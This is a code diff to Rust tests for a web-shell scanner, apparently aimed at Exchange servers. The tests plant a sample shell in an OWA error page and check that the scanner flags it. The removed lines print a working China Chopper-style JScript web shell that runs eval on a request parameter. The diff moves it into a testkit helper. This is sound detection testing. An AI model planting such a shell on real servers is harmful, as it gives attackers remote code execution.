@@ -70,12 +70,7 @@ fn clean_host_is_not_found_and_exits_zero() {
 #[test]
 fn planted_shell_is_affected_and_exits_one() {
     let t = clean_host();
-    let shell = concat!(
-        "<script language=\"JScript\" ",
-        "runat=\"server\">function Page_Load(){",
-        "ev",
-        "al(Request[\"k\"],\"unsafe\");}</script>"
-    );
+    let shell = ferret_testkit::samples::chopper_script("k");
     t.file(format!("{V15}/FrontEnd/HttpProxy/owa/auth/errorPages.aspx"), shell);
     let (code, out) = ferret(&[], t.root());
     assert_eq!(code, 1, "{out}");
@@ -122,12 +117,7 @@ fn check_report_carries_the_intel_sha256() {
 #[test]
 fn check_findings_severity_follows_score() {
     let t = clean_host();
-    let shell = concat!(
-        "<script language=\"JScript\" ",
-        "runat=\"server\">function Page_Load(){",
-        "ev",
-        "al(Request[\"k\"],\"unsafe\");}</script>"
-    );
+    let shell = ferret_testkit::samples::chopper_script("k");
     t.file(format!("{V15}/FrontEnd/HttpProxy/owa/auth/errorPages.aspx"), shell);
     t.file("inetpub/wwwroot/aspnet_client/other.aspx", "<%@ Page %>custom page");
     let (_, out) = ferret(&["--format", "jsonl"], t.root());
